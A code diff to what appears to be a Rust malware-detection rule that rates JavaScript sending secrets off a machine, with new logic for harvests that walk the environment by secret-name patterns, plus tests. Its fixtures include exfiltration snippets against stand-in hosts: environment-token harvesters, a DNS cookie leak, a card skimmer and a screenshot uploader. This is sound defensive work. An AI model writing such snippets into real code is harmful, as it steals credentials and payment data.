@@ -20,7 +20,8 @@ crate::declare_rule! {
     /// by name, or fills a top-level buffer it reads); callbacks belong to the function that
     /// registers them, and the top level (with its IIFEs) is one more function. A weak source
     /// (screen, clipboard, fields, a secret pattern) needs a second kind or the machine's
-    /// identity there too, or a send hidden in encoded DNS names, else high; secret-named
+    /// identity there too, or a send hidden in encoded DNS names, else high (a secret-name
+    /// pattern tested on the keys of the whole environment is strong: a harvest); secret-named
     /// environment variables count only three or more at once. Analytics SDKs read their own cookie by name, persist libraries walk
     /// storage towards an address their caller gives, Electron cookie managers export to a file:
     /// none matches.
@@ -42,6 +43,7 @@ crate::declare_rule! {
         "const dns = require('dns')\nconst S = /sess|token|jwt/i\nfunction leak(v) { dns.resolve4(Buffer.from(v).toString('hex').slice(0, 60) + '.d.example.org', () => {}) }\nexports.mw = (req, res, next) => { const c = String(req.headers.cookie).split(';').filter((kv) => S.test(kv)); if (c.length) leak(c.join(';')); next() }",
         "function grab(form) { const n = form.querySelector('[name=cardnumber]').value; const c = form.querySelector('input[autocomplete=cc-csc]').value; ship({ n, c }) }\nfunction ship(d) { fetch('https://cdn.example.net/m', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify(d)) }) }\ndocument.addEventListener('submit', (e) => grab(e.target), true)",
         "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
+        "function ci() { const env = process.env; const got = {}; for (const k of Object.keys(env)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = env[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()",
     ],
     pass: [
         "function id() { const m = document.cookie.match(/_ga=([^;]+)/); return fetch('https://api.analytics.example/collect', { method: 'POST', body: JSON.stringify({ cid: m && m[1] }) }) }",
@@ -54,6 +56,7 @@ crate::declare_rule! {
         "function bin(form) { const n = form.querySelector('[name=cardnumber]').value.replace(/\\D/g, ''); return fetch('https://lookup.binlist.example/' + n.slice(0, 6)) }",
         "function pay(form, opts) { const d = { number: form.querySelector('#card-number').value, cvc: form.querySelector('#cvc').value }; return fetch(opts.endpoint, { method: 'POST', body: JSON.stringify(d) }) }",
         "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
+        "function report(opts) { const env = {}; for (const k of Object.keys(process.env)) env[k] = /TOKEN|SECRET|PASSWORD/i.test(k) ? '[redacted]' : process.env[k]; return fetch(opts.endpoint, { method: 'POST', body: JSON.stringify(env) }) }",
     ],
 }
 
@@ -73,10 +76,20 @@ fn secret_env_uses(text: &str) -> Vec<Src> {
     let re = crate::regex!(
         r#"\benv\.([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)\b|\benv\[\s*['"]([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)['"]\s*\]"#
     );
+    // A token written as the value of an `Authorization` header is the client's own key on its
+    // way to the service it is for (a release tool's GitHub call), not a harvest.
+    let auth = crate::regex!(r#"(?i)['"]?authorization['"]?\s*:\s*[^,}\n]{0,40}$"#);
     re.captures_iter(text)
         .take(64)
         .filter_map(|c| {
             let m = c.get(1).or(c.get(2))?;
+            let mut from = m.start().saturating_sub(80);
+            while !text.is_char_boundary(from) {
+                from -= 1;
+            }
+            if text.get(from..m.start()).is_some_and(|b| auth.is_match(b)) {
+                return None;
+            }
             Some(Src {
                 off: m.start() as u32,
                 kind: "secret environment variables",
@@ -272,10 +285,15 @@ fn secret_pattern_uses(text: &str) -> Vec<Src> {
             .map(|m| m.as_str().to_ascii_lowercase())
             .collect();
         if kinds.len() >= 2 {
+            let env = walks_environment(text, body.start());
             out.push(Src {
                 off: body.start() as u32,
-                kind: "values matching a secret pattern",
-                strong: false,
+                kind: if env {
+                    "environment variables picked by a secret-name pattern"
+                } else {
+                    "values matching a secret pattern"
+                },
+                strong: env,
                 name: String::new(),
             });
         }
@@ -293,15 +311,67 @@ fn secret_pattern_uses(text: &str) -> Vec<Src> {
         }
         let uses = format!("{}.test(", name.as_str());
         for (i, _) in text.match_indices(&uses).take(8) {
+            let env = walks_environment(text, i);
             out.push(Src {
                 off: i as u32,
-                kind: "values matching a secret pattern",
-                strong: false,
+                kind: if env {
+                    "environment variables picked by a secret-name pattern"
+                } else {
+                    "values matching a secret pattern"
+                },
+                strong: env,
                 name: String::new(),
             });
         }
     }
     out
+}
+
+/// Whether the pattern tested at `at` picks names out of the whole environment: a walk over
+/// `process.env` (or `env`, or a name bound to `process.env`) shortly before it, and the test
+/// chooses (`if (P.test(k))`, `.filter`) rather than masks (`P.test(k) ? '[redacted]' : v`).
+/// Every secret the machine holds, chosen by name, is a harvest whatever its size; a client
+/// reads its own key by its name.
+fn walks_environment(text: &str, at: usize) -> bool {
+    let walk = crate::regex!(
+        r"Object\.(?:keys|entries|getOwnPropertyNames)\(\s*([\w$.]+)\s*\)|\bin\s+([\w$.]+)\s*\)"
+    );
+    let alias =
+        crate::regex!(r"(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*process\.env\s*[;,\n]");
+    let mut start = at.saturating_sub(400);
+    while !text.is_char_boundary(start) {
+        start -= 1;
+    }
+    let Some(window) = text.get(start..at) else {
+        return false;
+    };
+    let env_like = |w: &str| {
+        w == "process.env"
+            || w == "env"
+            || alias
+                .captures_iter(text)
+                .take(16)
+                .any(|c| c.get(1).is_some_and(|n| n.as_str() == w))
+    };
+    let walks = walk
+        .captures_iter(window)
+        .any(|c| c.get(1).or(c.get(2)).is_some_and(|w| env_like(w.as_str())));
+    walks && !masks(text, at)
+}
+
+/// Whether the `.test(…)` after `at` feeds a ternary (`P.test(k) ? '***' : v`): a redaction.
+fn masks(text: &str, at: usize) -> bool {
+    let Some(rest) = text.get(at..) else {
+        return false;
+    };
+    let Some(t) = rest.find(".test(").filter(|t| *t < 120) else {
+        return false;
+    };
+    let after = &rest[t + 6..];
+    let Some(close) = after.find(')').filter(|c| *c < 80) else {
+        return false;
+    };
+    after[close + 1..].trim_start().starts_with('?')
 }
 
 /// Whether a host is somewhere other than this machine or its private network.
@@ -655,5 +725,32 @@ mod tests {
             .find(|f| f.path == "lib/native.js")
             .expect("native file is in the package");
         assert!(p.is_entry_file(f));
+    }
+
+    fn severities(case: &str) -> Vec<crate::model::Severity> {
+        crate::rules::testing::run(&super::RULE, "index.js", case)
+            .into_iter()
+            .map(|h| h.severity)
+            .collect()
+    }
+
+    #[test]
+    fn secret_names_picked_out_of_the_environment_and_sent_are_critical() {
+        let env = "function ci() { const env = process.env; const got = {}; for (const k of Object.keys(env)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = env[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()";
+        assert_eq!(severities(env), vec![crate::model::Severity::Critical]);
+        // The same pattern over an object the caller passes is one weak source: high.
+        // Three token names, one of them the value of an Authorization header: two sent.
+        let release = "async function rel() { const t = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN; write(t); await fetch('https://api.github.example/repos/o/r/releases', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: '{}' }) }";
+        assert_eq!(severities(release), vec![]);
+        let harvest = "async function rel() { await fetch('https://c.example.net/r', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: JSON.stringify([process.env.NPM_TOKEN, process.env.NODE_AUTH_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]) }) }";
+        assert_eq!(severities(harvest), vec![crate::model::Severity::Critical]);
+        let obj = "function ci(o) { const got = {}; for (const k of Object.keys(o)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = o[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()";
+        assert_eq!(severities(obj), vec![crate::model::Severity::High]);
+        // A named pattern over an alias of the environment, as a filter: critical.
+        let alias = "const SEC = /token|secret|auth/i;\nconst e = process.env;\nfunction grab() { const keys = Object.keys(e).filter((k) => SEC.test(k)); fetch('https://c.example.net/x', { method: 'POST', body: JSON.stringify(keys.map((k) => e[k])) }) }\ngrab()";
+        assert_eq!(severities(alias), vec![crate::model::Severity::Critical]);
+        // Masking matches before a fixed-host send is a redaction: not a strong source.
+        let mask = "const SEC = /token|secret|auth/i;\nfunction report() { const out = {}; for (const k of Object.keys(process.env)) out[k] = SEC.test(k) ? '[redacted]' : process.env[k]; fetch('https://c.example.net/x', { method: 'POST', body: JSON.stringify(out) }) }\nreport()";
+        assert!(!severities(mask).contains(&crate::model::Severity::Critical));
     }
 }
